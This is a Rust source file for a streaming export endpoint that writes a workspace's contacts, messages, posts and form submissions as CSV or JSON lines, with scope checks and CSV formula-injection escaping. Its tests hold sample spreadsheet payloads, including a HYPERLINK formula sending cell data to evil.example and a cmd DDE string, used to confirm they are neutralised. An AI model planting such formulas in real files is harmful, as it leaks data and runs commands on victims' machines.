//! Exports: a dataset of the Space as RFC 4180 CSV or JSON lines, sent as it is read. Each
//! chunk is one page of the store, formatted and handed to the connection; the next page is
//! read only when the client has taken it, so memory stays at a page whatever the size.

use std::borrow::Cow;
use std::collections::VecDeque;

use bytes::Bytes;
use chrono::{DateTime, Utc};
use futures::{StreamExt as _, stream};
use http::StatusCode;
use serde_json::Value;
use space_auth::{Action, Domain, Scope};
use space_http::fields::format_datetime;
use space_http::keys;
use space_http::operation::{Call, Chunks, Effect, Reply};
use space_http::{ApiError, Engine, Resource};
use space_store::{Item, Query};

use crate::Period;

pub const CSV: &str = "text/csv; charset=utf-8";
pub const JSON_LINES: &str = "application/x-ndjson";

/// The datasets, as `dataset=` names them.
pub const DATASETS: [&str; 4] = ["contacts", "messages", "posts", "submissions"];

/// Items read (and sent) per chunk.
const PAGE: usize = 500;

/// Where a dataset's items live and which columns its CSV has. The collections are the
/// families' own (a test holds them to the families' constants).
pub struct Dataset {
    pub name: &'static str,
    /// The domain whose data it is: an export of it also needs that domain's `read`, so
    /// that `analytics:read` is no way around a key's other scopes.
    pub domain: Domain,
    pub columns: &'static [&'static str],
    pub source: Source,
}

pub enum Source {
    /// One collection of the Space.
    Collection(&'static str),
    /// A child collection under each item of a parent collection (messages of each thread).
    Children {
        parents: &'static str,
        children: &'static str,
    },
}

pub fn dataset(name: &str) -> Option<Dataset> {
    Some(match name {
        "contacts" => Dataset {
            name: "contacts",
            domain: Domain::Contacts,
            columns: &[
                "id",
                "name",
                "email",
                "phone",
                "company",
                "job_title",
                "tags",
                "created_at",
                "updated_at",
            ],
            source: Source::Collection("contacts"),
        },
        "messages" => Dataset {
            name: "messages",
            domain: Domain::Inbox,
            columns: &[
                "id",
                "thread_id",
                "contact_id",
                "channel",
                "direction",
                "status",
                "from",
                "to",
                "text",
                "created_at",
            ],
            source: Source::Children {
                parents: "inbox_threads",
                children: "inbox_messages",
            },
        },
        "posts" => Dataset {
            name: "posts",
            domain: Domain::Social,
            columns: &[
                "id",
                "cluster_id",
                "account_id",
                "network",
                "status",
                "content",
                "scheduled_at",
                "published_at",
                "created_at",
            ],
            source: Source::Collection("social_posts"),
        },
        "submissions" => Dataset {
            name: "submissions",
            domain: Domain::Forms,
            columns: &["id", "form_id", "data", "created_at"],
            source: Source::Children {
                parents: "forms",
                children: "submissions",
            },
        },
        _ => return None,
    })
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Format {
    Csv,
    JsonLines,
}

pub async fn get(call: Call) -> Result<Reply, ApiError> {
    let name = call.query_param("dataset").unwrap_or_default();
    let dataset = dataset(name)
        .ok_or_else(|| ApiError::invalid_field("dataset", format!("must be one of {}", DATASETS.join(", "))))?;
    let format = match call.query_param("format").unwrap_or("csv") {
        "csv" => Format::Csv,
        "json" => Format::JsonLines,
        _ => return Err(ApiError::invalid_field("format", "must be csv or json")),
    };
    space_http::execute::authorize(&call.principal, Scope::new(dataset.domain, Action::Read), Effect::Read).map_err(
        |_| {
            ApiError::Forbidden(format!(
                "Exporting {} also needs `{}`: the export is that domain's data.",
                dataset.name,
                Scope::new(dataset.domain, Action::Read)
            ))
        },
    )?;
    let (from, to) = Period::parse(&call)?;
    let space = call.space_id()?.to_owned();
    let (content_type, extension) = match format {
        Format::Csv => (CSV, "csv"),
        Format::JsonLines => (JSON_LINES, "jsonl"),
    };
    let day = call.engine.now().format("%Y-%m-%d");
    let file = format!("attachment; filename=\"{}-{day}.{extension}\"", dataset.name);
    let reader = Reader::new(call.engine.clone(), &space, dataset, format, from, to);
    Ok(Reply::streamed(StatusCode::OK, content_type, reader.chunks()).with_header("content-disposition", file))
}

/// Reads a dataset a page at a time and formats each page.
struct Reader {
    engine: Engine,
    space: String,
    dataset: Dataset,
    format: Format,
    /// Rows created at or after this time (formatted as stored, so compared as text).
    from: Option<String>,
    /// Rows created before this time.
    to: Option<String>,
    header_sent: bool,
    /// The parent collection still to list, and where its listing is.
    parents: Option<(String, Option<String>)>,
    /// Partitions still to read.
    queue: VecDeque<String>,
    /// The partition being read, and where.
    current: Option<(String, Option<String>)>,
}

impl Reader {
    fn new(
        engine: Engine,
        space: &str,
        dataset: Dataset,
        format: Format,
        from: Option<DateTime<Utc>>,
        to: Option<DateTime<Utc>>,
    ) -> Reader {
        let (parents, current) = match dataset.source {
            Source::Collection(collection) => (None, Some((keys::collection_partition(space, collection), None))),
            Source::Children { parents, .. } => (Some((keys::collection_partition(space, parents), None)), None),
        };
        Reader {
            engine,
            space: space.to_owned(),
            dataset,
            format,
            from: from.map(format_datetime),
            to: to.map(format_datetime),
            header_sent: false,
            parents,
            queue: VecDeque::new(),
            current,
        }
    }

    fn chunks(self) -> Chunks {
        stream::try_unfold(self, |mut reader| async move {
            Ok(reader.next_chunk().await?.map(|chunk| (chunk, reader)))
        })
        .boxed()
    }

    /// The next non-empty chunk, or `None` at the end.
    async fn next_chunk(&mut self) -> Result<Option<Bytes>, std::io::Error> {
        let mut out = Vec::new();
        if !self.header_sent {
            self.header_sent = true;
            if self.format == Format::Csv {
                self.write_csv(&mut out, self.dataset.columns.iter().copied())?;
            }
        }
        loop {
            if let Some((partition, after)) = self.current.take() {
                let page = self.read(&partition, after).await?;
                for item in &page.items {
                    self.write_row(&mut out, item)?;
                }
                if let Some(last) = page.last_sk {
                    self.current = Some((partition, Some(last)));
                }
            } else if let Some(partition) = self.queue.pop_front() {
                self.current = Some((partition, None));
                continue;
            } else if let Some((partition, after)) = self.parents.take() {
                let page = self.read(&partition, after).await?;
                if let Source::Children { children, .. } = self.dataset.source {
                    self.queue.extend(
                        page.items
                            .iter()
                            .map(|parent| keys::child_partition(&self.space, children, &parent.sk)),
                    );
                }
                if let Some(last) = page.last_sk {
                    self.parents = Some((partition, Some(last)));
                }
                continue;
            } else {
                return Ok((!out.is_empty()).then(|| Bytes::from(out)));
            }
            if !out.is_empty() {
                return Ok(Some(Bytes::from(out)));
            }
        }
    }

    async fn read(&self, partition: &str, after: Option<String>) -> Result<space_store::Page, std::io::Error> {
        self.engine
            .store()
            .query(Query::partition(partition).after(after).limit(PAGE))
            .await
            .map_err(std::io::Error::other)
    }

    fn in_period(&self, item: &Item) -> bool {
        let created = item.body.get("created_at").and_then(Value::as_str).unwrap_or_default();
        self.from.as_deref().is_none_or(|from| created >= from) && self.to.as_deref().is_none_or(|to| created < to)
    }

    fn write_row(&self, out: &mut Vec<u8>, item: &Item) -> Result<(), std::io::Error> {
        if !self.in_period(item) {
            return Ok(());
        }
        match self.format {
            Format::Csv => {
                let cells = self.dataset.columns.iter().map(|column| cell(item.body.get(*column)));
                self.write_csv(out, cells)
            }
            Format::JsonLines => {
                serde_json::to_writer(&mut *out, &Resource::render(item))?;
                out.push(b'\n');
                Ok(())
            }
        }
    }

    fn write_csv<C: AsRef<[u8]>>(
        &self,
        out: &mut Vec<u8>,
        cells: impl IntoIterator<Item = C>,
    ) -> Result<(), std::io::Error> {
        let mut writer = csv::WriterBuilder::new().from_writer(out);
        writer.write_record(cells).map_err(std::io::Error::other)?;
        writer.flush()
    }
}

/// Whether a spreadsheet would run `text` as a formula. A phone number or any other
/// number (`+1 201 555 0123`, `-4.5`) is a value to it, and stays as it is.
fn reads_as_formula(text: &str) -> bool {
    let numeric = text
        .chars()
        .all(|c| c.is_ascii_digit() || matches!(c, '+' | '-' | '.' | ' ' | '(' | ')'));
    text.starts_with(['=', '+', '-', '@', '\t', '\r']) && !numeric
}

/// A CSV cell: text as it is, nothing for null or absent, JSON for the rest. Text a
/// spreadsheet would read as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return: a visitor's name on a public form, an inbound message) is led by `'`,
/// so that opening the export runs nothing.
fn cell(value: Option<&Value>) -> Cow<'_, [u8]> {
    match value {
        None | Some(Value::Null) => Cow::Borrowed(b""),
        Some(Value::String(text)) if reads_as_formula(text) => Cow::Owned(format!("'{text}").into_bytes()),
        Some(Value::String(text)) => Cow::Borrowed(text.as_bytes()),
        Some(other) => Cow::Owned(other.to_string().into_bytes()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn cells_are_text_and_json() {
        assert_eq!(&*cell(None), b"");
        assert_eq!(&*cell(Some(&Value::Null)), b"");
        assert_eq!(&*cell(Some(&json!("Ada, \"the first\""))), b"Ada, \"the first\"");
        assert_eq!(&*cell(Some(&json!(["vip", "lead"]))), b"[\"vip\",\"lead\"]");
        assert_eq!(&*cell(Some(&json!(3))), b"3");
    }

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        let formula = "=HYPERLINK(\"https://evil.example/?\"&C2,\"Open\")";
        assert_eq!(&*cell(Some(&json!(formula))), format!("'{formula}").as_bytes());
        for text in ["@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd", "\t=1"] {
            assert_eq!(&*cell(Some(&json!(text))), format!("'{text}").as_bytes(), "{text}");
        }
        for text in ["+12015550123", "+1 (201) 555-0123", "-4.5", "Ada = Lovelace"] {
            assert_eq!(&*cell(Some(&json!(text))), text.as_bytes(), "{text}");
        }
    }

    #[test]
    fn every_dataset_is_defined() {
        for name in DATASETS {
            assert_eq!(dataset(name).map(|d| d.name), Some(name));
        }
        assert!(dataset("payments").is_none());
    }
}
